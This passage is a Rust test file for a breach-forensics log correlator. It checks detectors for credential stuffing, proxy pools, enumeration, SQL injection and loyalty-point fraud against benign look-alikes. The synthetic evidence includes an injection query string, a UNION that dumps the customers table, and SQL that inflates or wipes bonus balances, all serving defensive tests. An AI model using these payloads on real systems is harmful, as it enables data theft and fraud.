//! Each detector on small, hand-made evidence: a positive case and a legitimate look-alike.

use breachline::correlate::{analyze, technique as t, Analysis, Finding, Options};
use breachline::ingest::pipeline::Ingested;
use breachline::model::{Event, FileInfo, Outcome, SourceKind, SqlFacts, StmtClass};
use breachline::profile::Profile;
use breachline::sql::{analyze as sql, Dialect, Vocab};

const MIN: i64 = 60_000_000;
const DAY: i64 = 86_400_000_000;
const T0: i64 = 1_762_000_000_000_000;

fn gw(ts: i64, ip: &str, method: &str, path: &str, status: u16, user: Option<&str>) -> Event {
    let mut e = Event::new(SourceKind::Gateway, "apigw-json");
    e.ts = ts;
    e.client_ip = Some(ip.into());
    e.method = Some(method.into());
    e.path = Some(path.into());
    e.status = Some(status);
    e.outcome = Outcome::from_http(status);
    e.user = user.map(Into::into);
    e.request_id = Some(format!("r-{ts}-{ip}").into());
    e
}

fn db(ts: i64, user: &str, host: &str, text: &str, req: Option<&str>) -> Event {
    let mut e = Event::new(SourceKind::Db, "pg-stderr");
    e.ts = ts;
    e.db_user = Some(user.into());
    e.db_host = Some(host.into());
    e.session_id = Some(format!("s-{host}-{}", ts / DAY).into());
    let (class, mut f): (StmtClass, SqlFacts) =
        sql(text, &[], Dialect::Postgres, &Vocab::default());
    if let Some(r) = req {
        f.request_id = Some(r.into());
        e.request_id = Some(r.into());
    }
    e.stmt_class = Some(class);
    e.statement = Some(text.into());
    e.outcome = Outcome::Success;
    e.sql = Some(Box::new(f));
    e
}

fn run(events: Vec<Event>) -> Analysis {
    run_with(events, None)
}

/// `run`, with a roster.
fn run_with(mut events: Vec<Event>, roster: Option<breachline::roster::Roster>) -> Analysis {
    events.sort_by_key(|e| e.sort_key());
    let files = vec![FileInfo {
        path: "t".into(),
        format: "apigw-json".into(),
        ..Default::default()
    }];
    analyze(
        Ingested {
            events: events.into_iter().map(Box::new).collect(),
            files,
            rejections: vec![],
        },
        roster,
        &Options {
            profile: Profile::default(),
            wave_gap: 30 * MIN,
            schema: Vec::new(),
        },
    )
}

/// The integer keys of the accounts whose data an analysis found exposed, in order.
fn exposed_keys(a: &Analysis) -> Vec<i64> {
    (a.affected.values())
        .filter(|x| x.impacts.contains("data_exposed"))
        .map(|x| x.account.parse().unwrap())
        .collect()
}

/// A roster of the accounts `keys`, each created long before the evidence.
fn roster_of(keys: std::ops::Range<i64>) -> breachline::roster::Roster {
    let csv: String = std::iter::once("account_id,created_at\n".to_string())
        .chain(keys.map(|k| format!("{k},2025-01-01T00:00:00Z\n")))
        .collect();
    breachline::roster::Roster::parse(&csv, "roster.csv")
}

/// The successful sign-ins among `v`: (time, account).
fn signed_in(v: &[Event]) -> Vec<(i64, String)> {
    v.iter()
        .filter(|e| e.status == Some(200))
        .map(|e| (e.ts, e.user.as_deref().unwrap().to_string()))
        .collect()
}

/// The application's read of a signed-in customer's own row, untagged, on its pooled
/// connection 40 ms after the sign-in at `ts`.
fn own_row_read(ts: i64, acc: &str) -> Event {
    let sql = format!("SELECT id, full_name, tier FROM customers WHERE id = {acc}");
    db(ts + 40_000, "app", "10.0.1.5", &sql, None)
}

/// The findings of one technique, in the analysis's order.
fn of_technique<'a>(a: &'a Analysis, tech: &str) -> Vec<&'a Finding> {
    a.findings.iter().filter(|f| f.technique == tech).collect()
}

fn has(a: &Analysis, tech: &str, subject: &str) -> bool {
    a.findings
        .iter()
        .any(|f| f.technique == tech && f.subject.contains(subject))
}

/// Background: ordinary customers logging in, some mistyping their password twice.
fn background() -> Vec<Event> {
    let mut v = Vec::new();
    for k in 0..200 {
        let ip = format!("100.64.0.{}", k % 250);
        let ts = T0 + k * 3 * MIN;
        if k % 10 == 0 {
            v.push(gw(ts, &ip, "POST", "/api/auth/login", 401, None));
            v.push(gw(
                ts + 5_000_000,
                &ip,
                "POST",
                "/api/auth/login",
                401,
                None,
            ));
        }
        v.push(gw(
            ts + 10_000_000,
            &ip,
            "POST",
            "/api/auth/login",
            200,
            Some(&format!("{}", 5000 + k)),
        ));
    }
    v
}

#[test]
fn credential_stuffing_vs_typos() {
    let mut v = background();
    for k in 0..40 {
        v.push(gw(
            T0 + DAY + k * 2_000_000,
            "203.0.113.9",
            "POST",
            "/api/auth/login",
            if k == 39 { 200 } else { 401 },
            if k == 39 { Some("5001") } else { None },
        ));
    }
    let a = run(v);
    assert!(has(&a, t::CREDENTIAL_STUFFING, "203.0.113.9"));
    assert!(
        !a.findings
            .iter()
            .any(|f| f.technique == t::CREDENTIAL_STUFFING && f.subject.starts_with("100.64")),
        "a user who mistypes twice is not stuffing"
    );
}

#[test]
fn bonus_changes_of_attacker_requests_are_tampering_of_unknown_points_where_no_database_logs() {
    // Gateway evidence alone: a stuffing address gets into account 5001 and moves its
    // points away; a customer moves their own. Where database evidence covers the time,
    // its statements say what changed, and the request alone adds nothing.
    let make = |with_db: bool| {
        let mut v = background();
        for k in 0..40 {
            v.push(gw(
                T0 + DAY + k * 2_000_000,
                "203.0.113.9",
                "POST",
                "/api/auth/login",
                if k == 39 { 200 } else { 401 },
                if k == 39 { Some("5001") } else { None },
            ));
        }
        for (ip, acc) in [("203.0.113.9", "5001"), ("100.64.0.2", "5002")] {
            let mut g = gw(
                T0 + DAY + 2 * MIN,
                ip,
                "POST",
                "/api/v1/bonus/transfer",
                200,
                Some(acc),
            );
            g.account_id = Some(acc.into());
            v.push(g);
        }
        if with_db {
            for d in 0..3 {
                let sql = "SELECT name FROM menu_items WHERE id = 7";
                v.push(db(T0 + d * DAY, "app", "10.0.0.5", sql, None));
            }
        }
        run(v)
    };
    let a = make(false);
    let x = &a.affected["5001"];
    assert!(x.impacts.contains("bonus_tampered"), "{x:?}");
    assert_eq!((x.bonus_points(), x.bonus_unknown), (None, 1));
    assert!(x
        .evidence
        .iter()
        .any(|e| e.2.contains("no database evidence covers")));
    assert!(!a.affected.contains_key("5002"));
    let found = of_technique(&a, t::BONUS_FRAUD);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0].explanation.contains("on 1 account (5001)"),
        "{found:?}"
    );
    assert!(a
        .waves
        .iter()
        .any(|w| w.techniques.contains(t::BONUS_FRAUD)));
    let doc = breachline::report::doc::build(&a, "t", None);
    assert!(
        doc.summary
            .iter()
            .any(|s| s.contains("1 by points it does not")),
        "{:?}",
        doc.summary
    );
    let a = make(true);
    assert!(a
        .affected
        .get("5001")
        .is_none_or(|x| !x.impacts.contains("bonus_tampered")));
    assert!(of_technique(&a, t::BONUS_FRAUD).is_empty());
}

#[test]
fn a_proxy_pool_vs_customers_who_mistype_during_its_burst() {
    // Thirty new addresses each fail eight logins over forty minutes, one of them then
    // getting in; two customers on addresses the evidence never saw (a mobile network's
    // new address) fail twice and get in during the same hour.
    let mut v = background();
    let start = T0 + DAY;
    for k in 0..30i64 {
        let ip = format!("198.18.7.{k}");
        for n in 0..8i64 {
            let ts = start + n * 5 * MIN + k * 7_000_000;
            v.push(gw(ts, &ip, "POST", "/api/auth/login", 401, None));
        }
        if k == 3 {
            let ts = start + 41 * MIN;
            v.push(gw(ts, &ip, "POST", "/api/auth/login", 200, Some("5003")));
        }
    }
    for (c, at) in [("100.100.0.1", 10 * MIN), ("100.100.0.2", 30 * MIN)] {
        mistypes_twice(&mut v, c, start + at);
    }
    let a = run(v);
    let pool = pool_of(&a);
    assert_eq!(pool.seed_ips.len(), 30, "{:?}", pool.seed_ips);
    assert!(pool.seed_ips.contains(&"198.18.7.3".to_string()));
    assert!(!pool.seed_ips.iter().any(|ip| ip.starts_with("100.100")));
}

#[test]
fn a_proxy_pool_on_a_busy_app_doubles_an_hour_rather_than_multiplying_it() {
    // Sixty customers an hour, every hour for four days, fail twice before getting in,
    // each at its own hour from its own address. On the third day thirty new addresses
    // fail four logins each within forty minutes: their hour holds twice its usual
    // failures, not the five times a quiet app's burst reaches, and most of the window's
    // failures are still the customers'.
    let mut v = background();
    for d in 0..4i64 {
        for k in 0..1440i64 {
            let ip = format!("100.70.{}.{}", k / 250, k % 250);
            mistypes_twice(&mut v, &ip, T0 + d * DAY + k * MIN);
        }
    }
    let start = T0 + 2 * DAY + 10 * 60 * MIN + 5 * MIN;
    for k in 0..30i64 {
        let ip = format!("198.18.9.{k}");
        for n in 0..4i64 {
            v.push(gw(
                start + n * 10 * MIN + k * 11_000_000,
                &ip,
                "POST",
                "/api/auth/login",
                401,
                None,
            ));
        }
    }
    let a = run(v);
    let pool = pool_of(&a);
    assert_eq!(pool.seed_ips.len(), 30, "{:?}", pool.seed_ips);
    assert!(pool.seed_ips.iter().all(|ip| ip.starts_with("198.18.9.")));
    assert!(
        pool.explanation
            .contains("usually 120 failed logins an hour then"),
        "{}",
        pool.explanation
    );
}

#[test]
fn stuffing_from_an_address_customers_share_is_its_burst_alone() {
    // A carrier's CGNAT exit: customers log in from it, one every twenty minutes, for
    // three days; on the second the attacker's script fails forty logins through it in
    // ten minutes and gets in once. Over the three days most of its logins succeeded,
    // so the per-address ratio missed the stuffing; taken whole, the address made every
    // customer behind it the attacker's.
    let mut v = background();
    let cgnat = "100.72.0.1";
    for k in 0..216i64 {
        let ts = T0 + k * 20 * MIN;
        let who = format!("{}", 7000 + k % 60);
        v.push(login(ts, cgnat, 200, Some(&who), "okhttp/4.12.0"));
    }
    let start = T0 + DAY + 7 * MIN;
    for k in 0..40i64 {
        let (status, who) = if k == 39 {
            (200, Some("7100"))
        } else {
            (401, None)
        };
        v.push(login(
            start + k * 15_000_000,
            cgnat,
            status,
            who,
            "python-requests/2.31.0",
        ));
    }
    let a = run(v);
    let f = a
        .findings
        .iter()
        .find(|f| f.technique == t::CREDENTIAL_STUFFING && f.subject == cgnat)
        .expect("the burst is stuffing");
    let ev = &a.ing.events;
    let end = start + 39 * 15_000_000;
    assert!(f
        .events
        .iter()
        .all(|&i| (start..=end + 15 * MIN).contains(&ev[i].ts)));
    // The attacker's: the script's logins; not the customers', on any day.
    for (i, e) in ev.iter().enumerate() {
        if e.client_ip.as_deref() == Some(cgnat) {
            let script = e.user_agent.as_deref() == Some("python-requests/2.31.0");
            assert_eq!(a.attr[i].is_some(), script, "{:?} {:?}", e.ts, e.user_agent);
        }
    }
    assert!(
        a.notes
            .iter()
            .any(|n| n.contains("also served others") && n.contains(cgnat)),
        "{:?}",
        a.notes
    );
}

/// A login under a user agent.
fn login(ts: i64, ip: &str, status: u16, user: Option<&str>, agent: &str) -> Event {
    let mut e = gw(ts, ip, "POST", "/api/auth/login", status, user);
    e.user_agent = Some(agent.into());
    e
}

/// A customer who fails two logins, then gets in, from `ts`.
fn mistypes_twice(v: &mut Vec<Event>, ip: &str, ts: i64) {
    v.push(gw(ts, ip, "POST", "/api/auth/login", 401, None));
    v.push(gw(ts + 6_000_000, ip, "POST", "/api/auth/login", 401, None));
    v.push(gw(
        ts + 15_000_000,
        ip,
        "POST",
        "/api/auth/login",
        200,
        Some("5100"),
    ));
}

/// The distributed stuffing finding: a pool of addresses.
fn pool_of(a: &Analysis) -> &Finding {
    a.findings
        .iter()
        .find(|f| f.technique == t::CREDENTIAL_STUFFING && f.subject.ends_with("addresses"))
        .expect("the pool is found")
}

#[test]
fn a_proxy_pool_s_one_try_addresses_join_it_and_customers_do_not() {
    // Twenty addresses each fail three logins and sixty more fail one each, all under
    // the script's agent, over forty minutes. Beside them, on addresses the evidence
    // never saw: a customer fails once under the app's agent and gives up; another
    // fails once under the script's agent, then gets in.
    const SCRIPT: &str = "python-requests/2.31.0";
    let mut v = background();
    let start = T0 + DAY;
    for k in 0..20i64 {
        for n in 0..3i64 {
            let ts = start + n * 12 * MIN + k * 20_000_000;
            v.push(login(ts, &format!("198.18.7.{k}"), 401, None, SCRIPT));
        }
    }
    for k in 0..60i64 {
        let ts = start + MIN + k * 25_000_000;
        v.push(login(ts, &format!("198.18.8.{k}"), 401, None, SCRIPT));
    }
    v.push(login(
        start + 9 * MIN,
        "100.100.0.1",
        401,
        None,
        "LoyaltyApp/5.2",
    ));
    v.push(login(start + 11 * MIN, "100.100.0.2", 401, None, SCRIPT));
    v.push(login(
        start + 12 * MIN,
        "100.100.0.2",
        200,
        Some("5100"),
        SCRIPT,
    ));
    let a = run(v);
    let pool = pool_of(&a);
    assert_eq!(pool.seed_ips.len(), 80, "{:?}", pool.seed_ips);
    assert!(pool.seed_ips.contains(&"198.18.8.59".to_string()));
    assert!(!pool.seed_ips.iter().any(|ip| ip.starts_with("100.100")));
    assert!(pool
        .explanation
        .contains("60 of them seen in one failed login only"));
}

/// The background, and forty addresses (`198.18.9.k`) that each fail three logins over
/// half an hour from the start it returns (day 1).
fn forty_fail_thrice() -> (Vec<Event>, i64) {
    let mut v = background();
    let start = T0 + DAY;
    for k in 0..40i64 {
        for n in 0..3i64 {
            let ts = start + n * 10 * MIN + k * 15_000_000;
            let ip = format!("198.18.9.{k}");
            v.push(gw(ts, &ip, "POST", "/api/auth/login", 401, None));
        }
    }
    (v, start)
}

#[test]
fn a_customer_who_mistypes_after_a_pool_s_burst_is_not_in_it() {
    // Forty addresses fail three logins each over half an hour. Fifty-five minutes after
    // the burst, still in its window's last hour, a customer on a new address fails
    // twice and gets in.
    let (mut v, start) = forty_fail_thrice();
    mistypes_twice(&mut v, "100.100.0.9", start + 85 * MIN);
    let a = run(v);
    let pool = pool_of(&a);
    assert_eq!(pool.seed_ips.len(), 40, "{:?}", pool.seed_ips);
    assert!(!pool.seed_ips.contains(&"100.100.0.9".to_string()));
}

#[test]
fn a_customer_behind_a_pool_s_exit_an_hour_after_its_burst_is_not_the_pool_s() {
    // Forty addresses fail three logins each over half an hour; one of them is a
    // carrier's exit whose customer signs in on the days around. Eighty-five minutes
    // after the burst began, still in its window's last hour, that customer mistypes
    // twice there and gets in.
    let (mut v, start) = forty_fail_thrice();
    let exit = "198.18.9.5";
    for d in [0, 2] {
        let ts = T0 + d * DAY + 3 * 60 * MIN;
        v.push(gw(ts, exit, "POST", "/api/auth/login", 200, Some("5100")));
    }
    mistypes_twice(&mut v, exit, start + 85 * MIN);
    let a = run(v);
    let pool = pool_of(&a);
    assert!(
        pool.seed_ips.contains(&exit.to_string()),
        "{:?}",
        pool.seed_ips
    );
    let ev = &a.ing.events;
    assert!(
        pool.events.iter().all(|&i| ev[i].ts < start + 60 * MIN),
        "the finding holds the customer's logins"
    );
    for (i, e) in ev.iter().enumerate() {
        if e.client_ip.as_deref() == Some(exit) && e.ts >= start + 60 * MIN {
            assert!(a.attr[i].is_none(), "{} {:?}", e.ts, a.attr[i]);
        }
    }
}

#[test]
fn a_proxy_pool_of_one_try_addresses_alone_is_found() {
    // A pool of hundreds, each address trying one login: none tries twice.
    let mut v = background();
    for k in 0..120i64 {
        let ip = format!("198.18.{}.{}", k / 100, k % 100);
        let ts = T0 + DAY + k * 20_000_000;
        v.push(gw(ts, &ip, "POST", "/api/auth/login", 401, None));
    }
    assert_eq!(pool_of(&run(v)).seed_ips.len(), 120);
}

#[test]
fn an_ipv6_pool_rotating_within_one_prefix_is_found() {
    // IPv6 proxies hand out a fresh address of one /64 per request.
    let mut v = background();
    for k in 0..120i64 {
        let ip = format!("2001:db8:7:42:{:x}:{:x}::1", k * 7919 % 65536, k);
        let ts = T0 + DAY + k * 20_000_000;
        v.push(gw(ts, &ip, "POST", "/api/auth/login", 401, None));
    }
    assert_eq!(pool_of(&run(v)).seed_ips.len(), 120);
}

/// Eighty customers' profiles read from `ip`, one every ten seconds from `t`.
fn enumerate_from(v: &mut Vec<Event>, t: i64, ip: &str) {
    for k in 0..80 {
        v.push(gw(
            t + k * 10_000_000,
            ip,
            "GET",
            &format!("/api/customers/{}/profile", 7000 + k),
            200,
            None,
        ));
    }
}

#[test]
fn an_exit_whose_customers_use_other_routes_on_other_days_is_shared_though_no_one_is_named() {
    // A gateway that logs no identity, SQL without request ids: the customers behind a
    // carrier's exit name no one. They sign in, read the menu and order on four days,
    // under the app's agent; on the third the attacker enumerates profiles through it
    // under the same agent. Their visits are not the attack's.
    const APP: &str = "okhttp/4.12.0";
    let exit = "100.72.0.9";
    let mut v = background();
    for d in 0..4i64 {
        for (k, (method, path, status)) in [
            ("POST", "/api/auth/login", 200),
            ("GET", "/api/menu", 200),
            ("POST", "/api/orders", 201),
        ]
        .into_iter()
        .enumerate()
        {
            let mut e = gw(
                T0 + d * DAY + 8 * 60 * MIN + k as i64 * MIN,
                exit,
                method,
                path,
                status,
                None,
            );
            e.user_agent = Some(APP.into());
            v.push(e);
        }
    }
    let mut attack = Vec::new();
    enumerate_from(&mut attack, T0 + 2 * DAY + 14 * 60 * MIN, exit);
    for e in &mut attack {
        e.user_agent = Some(APP.into());
    }
    v.extend(attack);
    let a = run(v);
    assert!(has(&a, t::ENUMERATION, exit));
    for (i, e) in a.ing.events.iter().enumerate() {
        if e.client_ip.as_deref() == Some(exit) {
            let profile = e.path.as_deref().is_some_and(|p| p.ends_with("/profile"));
            assert_eq!(a.attr[i].is_some(), profile, "{} {:?}", e.ts, e.path);
        }
    }
    assert!(a
        .notes
        .iter()
        .any(|n| n.contains("also served others") && n.contains(exit)));
}

#[test]
fn enumeration_vs_office_staff_lookups() {
    let mut v = background();
    // Office staff look up 20 customers a day for five days.
    for d in 0..5 {
        v.push(gw(
            T0 + d * DAY,
            "198.51.100.10",
            "POST",
            "/admin/login",
            200,
            Some("anna@staff"),
        ));
        for k in 0..20 {
            v.push(gw(
                T0 + d * DAY + (k + 1) * 15 * MIN,
                "198.51.100.10",
                "GET",
                &format!("/admin/customers/{}", 6000 + d * 20 + k),
                200,
                Some("anna@staff"),
            ));
        }
    }
    enumerate_from(&mut v, T0 + 6 * DAY, "192.0.2.66");
    let a = run(v);
    assert!(has(&a, t::ENUMERATION, "192.0.2.66"));
    assert!(!has(&a, t::ENUMERATION, "198.51.100.10"));
}

#[test]
fn enumeration_of_accounts_named_by_uuid() {
    // Many apps name accounts by UUID, not by number: eighty profiles read one after
    // another are an enumeration all the same, and are the accounts it exposed.
    let mut v = background();
    let uuid = |k: i64| format!("{:08x}-4b1e-4c2a-9f3d-{:012x}", 0x5eed_0000 + k, k * 7919);
    for k in 0..80 {
        v.push(gw(
            T0 + DAY + k * 10_000_000,
            "192.0.2.66",
            "GET",
            &format!("/api/customers/{}/profile", uuid(k)),
            200,
            None,
        ));
    }
    let a = run(v);
    assert!(has(&a, t::ENUMERATION, "192.0.2.66"), "{:?}", a.findings);
    let exposed = (a.affected.values())
        .filter(|x| x.impacts.contains("data_exposed"))
        .count();
    assert_eq!(exposed, 80);
    assert!(a.affected.contains_key(&uuid(7)));
}

#[test]
fn injection_vs_apostrophes() {
    let mut v = background();
    let mut e = gw(T0 + DAY, "192.0.2.8", "GET", "/api/search", 500, None);
    e.query = Some("q=%27%20OR%201%3D1--".into());
    v.push(e);
    let mut o = gw(
        T0 + DAY,
        "100.64.9.9",
        "GET",
        "/api/search",
        200,
        Some("5002"),
    );
    o.query = Some("q=O%27Brien%20cafe".into());
    v.push(o);
    let a = run(v);
    assert!(has(&a, t::INJECTION, "192.0.2.8"));
    assert!(!has(&a, t::INJECTION, "100.64.9.9"));
}

/// The application's own writes: `n` orders from one address a minute apart, the k-th
/// running `sql(k)` under its request id.
fn app_orders(v: &mut Vec<Event>, n: i64, mut sql: impl FnMut(i64) -> String) {
    for k in 0..n {
        let rid = format!("acc{k}");
        let mut g = gw(T0 + k * MIN, "100.64.1.1", "POST", "/api/orders", 201, None);
        g.request_id = Some(rid.as_str().into());
        v.push(g);
        v.push(db(
            T0 + k * MIN + 5000,
            "app",
            "10.0.0.5",
            &sql(k),
            Some(&rid),
        ));
    }
}

/// Accruals: the k-th order credits account 5000 + k % `accounts` with 10 + k % `spread`
/// points.
fn accruals(v: &mut Vec<Event>, n: i64, accounts: i64, spread: i64) {
    app_orders(v, n, |k| {
        format!(
            "UPDATE bonus_accounts SET balance = balance + {} WHERE account_id = {}",
            10 + k % spread,
            5000 + k % accounts
        )
    });
}

#[test]
fn bonus_outliers_and_fan_in_vs_accruals() {
    let mut v = background();
    accruals(&mut v, 100, 100, 30);
    let mut g = gw(
        T0 + DAY,
        "192.0.2.99",
        "POST",
        "/api/bonus/promo",
        200,
        Some("9001"),
    );
    g.request_id = Some("promo".into());
    v.push(g);
    v.push(db(
        T0 + DAY + 5000,
        "app",
        "10.0.0.5",
        "UPDATE bonus_accounts SET balance = balance + 50000 WHERE account_id = 9001",
        Some("promo"),
    ));
    let a = run(v);
    assert!(has(&a, t::BONUS_FRAUD, "192.0.2.99"));
    assert!(
        !has(&a, t::BONUS_FRAUD, "100.64.1.1"),
        "ordinary accruals are not fraud"
    );
    let acc = &a.affected["9001"];
    assert_eq!(acc.bonus_delta, Some(50000));
}

/// Everyday traffic and accruals, and statements typed at a database prompt with the
/// application's credentials from 198.51.100.66: (seconds into day 1, text).
fn at_a_prompt(statements: &[(i64, &str)]) -> Vec<Event> {
    let mut v = background();
    accruals(&mut v, 100, 100, 30);
    for &(s, sql) in statements {
        v.push(db(
            T0 + DAY + s * 1_000_000,
            "app",
            "198.51.100.66",
            sql,
            None,
        ));
    }
    v
}

#[test]
fn a_database_prompt_s_ledger_row_counts_once_and_its_sets_are_unknown_not_zero() {
    // Stolen application credentials at a database prompt: two balances raised, the
    // ledger row of one written by hand a minute and a half later (it changes nothing:
    // the UPDATE did), two balances set outright with no earlier balance in the evidence
    // (what they changed is unknown, not zero).
    let a = run(at_a_prompt(&[
        (
            0,
            "UPDATE bonus_accounts SET balance = balance + 25000 WHERE account_id IN (5001, 5002)",
        ),
        (
            45,
            "UPDATE bonus_accounts SET balance = 99999 WHERE account_id = 5003",
        ),
        (
            50,
            "UPDATE bonus_accounts SET balance = 88888 WHERE account_id = 5004",
        ),
        (
            90,
            "INSERT INTO bonus_ledger (account_id, delta, reason) VALUES (5001, 25000, 'manual')",
        ),
    ]));
    let points = |acc: &str| a.affected[acc].bonus_points();
    assert_eq!(
        points("5001"),
        Some(25000),
        "the ledger row repeats the UPDATE"
    );
    assert_eq!(points("5002"), Some(25000));
    for acc in ["5003", "5004"] {
        assert_eq!(points(acc), None, "{acc}: no earlier balance, not zero");
        assert_eq!(a.affected[acc].bonus_unknown, 1);
    }
    assert!(
        a.notes.iter().any(|n| n.contains("restore these balances")
            && n.contains("5003 (first change")
            && n.contains("5004 (first change")),
        "{:?}",
        a.notes
    );
}

#[test]
fn a_change_by_nothing_tampers_with_no_balance() {
    // The same prompt opens a balance row of 0 for an account it made and adds 0 to
    // another: neither moved a point, so neither needs a correction.
    let a = run(at_a_prompt(&[
        (
            0,
            "UPDATE bonus_accounts SET balance = balance + 25000 WHERE account_id = 5001",
        ),
        (
            20,
            "INSERT INTO bonus_accounts (account_id, balance) VALUES (9999, 0)",
        ),
        (
            40,
            "UPDATE bonus_accounts SET balance = balance + 0 WHERE account_id = 5005",
        ),
    ]));
    assert_eq!(a.affected["5001"].bonus_points(), Some(25000));
    for acc in ["9999", "5005"] {
        assert!(
            a.affected
                .get(acc)
                .is_none_or(|x| !x.impacts.contains("bonus_tampered")),
            "{acc}: {:?}",
            a.affected.get(acc)
        );
    }
}

#[test]
fn a_database_prompt_s_batches_name_each_account_and_its_unstated_changes_are_unknown() {
    // The same prompt batches its changes as scripts do: a CASE that gives each account
    // its own amount, an array of accounts, and a multiplication whose points the text
    // does not state (the account is tampered with, by points only a backup tells).
    let mut v = background();
    accruals(&mut v, 100, 100, 30);
    let prompt =
        |s: i64, sql: &str| db(T0 + DAY + s * 1_000_000, "app", "198.51.100.66", sql, None);
    v.push(prompt(
        0,
        "UPDATE bonus_accounts SET balance = balance + CASE account_id WHEN 5001 THEN 7000 \
         WHEN 5002 THEN 8000 END WHERE account_id IN (5001, 5002)",
    ));
    v.push(prompt(
        30,
        "UPDATE bonus_accounts SET balance = balance + 900 \
         WHERE account_id = ANY('{5003,5004}'::bigint[])",
    ));
    v.push(prompt(
        60,
        "UPDATE bonus_accounts SET balance = balance * 10 WHERE account_id = 5005",
    ));
    let a = run(v);
    let points = |acc: &str| a.affected[acc].bonus_points();
    assert_eq!(points("5001"), Some(7000));
    assert_eq!(points("5002"), Some(8000));
    assert_eq!(points("5003"), Some(900));
    assert_eq!(points("5004"), Some(900));
    let x = &a.affected["5005"];
    assert!(x.impacts.contains("bonus_tampered"), "{x:?}");
    assert_eq!((x.bonus_points(), x.bonus_unknown), (None, 1));
    assert!(
        a.notes
            .iter()
            .any(|n| n.contains("5005 (first change") && n.contains("does not state")),
        "{:?}",
        a.notes
    );
    assert!(
        a.notes
            .iter()
            .any(|n| n.contains("the accounts they name are among the affected accounts")),
        "{:?}",
        a.notes
    );
}

#[test]
fn batches_of_values_name_each_account_and_removed_bonus_rows_are_tampering() {
    // A prompt's batches as drivers send them: an UPDATE joined to value rows, a ledger
    // INSERT of unnested arrays; then a DELETE of an account's ledger rows (its balance
    // changes by what they held: unknown points).
    let mut v = background();
    accruals(&mut v, 100, 100, 30);
    let prompt =
        |s: i64, sql: &str| db(T0 + DAY + s * 1_000_000, "app", "198.51.100.66", sql, None);
    v.push(prompt(
        0,
        "UPDATE bonus_accounts b SET balance = b.balance + v.amt FROM (VALUES (5001, 7000), \
         (5002, 8000)) AS v(id, amt) WHERE b.account_id = v.id",
    ));
    v.push(prompt(
        30,
        "INSERT INTO bonus_ledger (account_id, delta, reason) SELECT a, d, 'promo' \
         FROM unnest(ARRAY[5003, 5004], ARRAY[900, 950]) AS t(a, d)",
    ));
    v.push(prompt(
        60,
        "DELETE FROM bonus_ledger WHERE account_id = 5005",
    ));
    let a = run(v);
    let points = |acc: &str| a.affected[acc].bonus_points();
    assert_eq!(points("5001"), Some(7000));
    assert_eq!(points("5002"), Some(8000));
    assert_eq!(points("5003"), Some(900));
    assert_eq!(points("5004"), Some(950));
    let x = &a.affected["5005"];
    assert!(x.impacts.contains("bonus_tampered"), "{x:?}");
    assert_eq!((x.bonus_points(), x.bonus_unknown), (None, 1));
    assert!(
        x.evidence.iter().any(|(_, _, why)| why.contains("removed")),
        "{x:?}"
    );
}

#[test]
fn a_union_that_dumps_the_customers_exposes_every_account() {
    // An injected UNION behind an ordinary product lookup returns the customers table;
    // the same lookup with the union reading another table exposes nobody.
    let exposed = |sql: &str| {
        let mut v = background();
        v.push(db(T0 + DAY, "app", "198.51.100.66", sql, None));
        let a = run(v);
        let n = (a.affected.values())
            .filter(|x| x.impacts.contains("data_exposed"))
            .count();
        (n, a)
    };
    let (n, a) = exposed(
        "SELECT name, price FROM products WHERE id = 5 UNION ALL SELECT email, phone FROM customers",
    );
    assert!(has(&a, t::INJECTION, "198.51.100.66"), "{:?}", a.findings);
    assert_eq!(n, 200);
    let (n, _) = exposed(
        "SELECT name, price FROM products WHERE id = 5 UNION ALL SELECT table_name, 1 FROM information_schema.tables",
    );
    assert_eq!(n, 0);
}

#[test]
fn an_application_that_saves_balances_outright_is_judged_by_what_each_save_changed() {
    // An ORM saves the whole row: every operation sets the balance. Each account's first
    // save in the evidence changes an unknown amount, its later saves the difference.
    // The attacker's save of a new account's balance at 60000 (accounts hold a few
    // hundred) and a save adding 30000 to another are the outliers; the application's
    // saves are not.
    let mut v = background();
    let mut balance = [0i64; 40];
    app_orders(&mut v, 400, |k| {
        let acc = (k % 40) as usize;
        balance[acc] = 300 + (k % 40) * 7 + k / 40 * 12;
        format!(
            "UPDATE bonus_accounts SET balance = {}, updated_at = now() WHERE account_id = {}",
            balance[acc],
            5000 + acc
        )
    });
    for (n, (acc, value)) in [(41, 60000), (3, balance[3] + 30000)]
        .into_iter()
        .enumerate()
    {
        let sql = format!(
            "UPDATE bonus_accounts SET balance = {value}, updated_at = now() WHERE account_id = {}",
            5000 + acc
        );
        promo(
            &mut v,
            T0 + DAY + n as i64 * MIN,
            &format!("evil{n}"),
            None,
            &[&sql],
        );
    }
    // A third save writes its ledger row beside it, as the application's own would:
    // the row gives what it changed.
    promo(
        &mut v,
        T0 + DAY + 5 * MIN,
        "evil2",
        None,
        &[
            "UPDATE bonus_accounts SET balance = 45120 WHERE account_id = 5042",
            "INSERT INTO bonus_ledger (account_id, delta, reason) VALUES (5042, 45000, 'promo')",
        ],
    );
    let a = run(v);
    assert!(has(&a, t::BONUS_FRAUD, "192.0.2.99"));
    assert!(
        !has(&a, t::BONUS_FRAUD, "100.64.1.1"),
        "the application's saves are not fraud: {:?}",
        a.findings
    );
    assert_eq!(a.affected["5003"].bonus_points(), Some(30000));
    assert_eq!(
        a.affected["5041"].bonus_points(),
        None,
        "no earlier balance"
    );
    let bonus: Vec<&String> = (a.affected.iter())
        .filter(|(_, x)| x.bonus_delta.is_some())
        .map(|(k, _)| k)
        .collect();
    assert_eq!(
        a.affected["5042"].bonus_points(),
        Some(45000),
        "its ledger row"
    );
    assert_eq!(bonus, ["5003", "5041", "5042"]);
}

#[test]
fn balance_updates_of_unnamed_rows_vs_the_nightly_expiry_job() {
    // A nightly job expires points by a filter (no key), seen on three nights: routine.
    // Stolen credentials at a prompt give every account 500 points: no account named, no
    // change the other detectors can see, and the one thing found.
    let mut v = background();
    for d in 0..3 {
        v.push(db(
            T0 + d * DAY + 60 * MIN,
            "cron",
            "10.0.0.9",
            "UPDATE bonus_accounts SET balance = 0 WHERE expires_at < now()",
            None,
        ));
    }
    v.push(db(
        T0 + 2 * DAY + 300 * MIN,
        "loyalty_app",
        "198.51.100.66",
        "UPDATE bonus_accounts SET balance = balance + 500",
        None,
    ));
    let a = run(v);
    let found = of_technique(&a, t::BONUS_FRAUD);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].subject.contains("198.51.100.66"), "{found:?}");
    assert!(found[0]
        .explanation
        .contains("compare the balance table with a backup"));
    assert!(
        a.notes
            .iter()
            .any(|n| n.contains("changed rows their text does not name")),
        "{:?}",
        a.notes
    );
}

#[test]
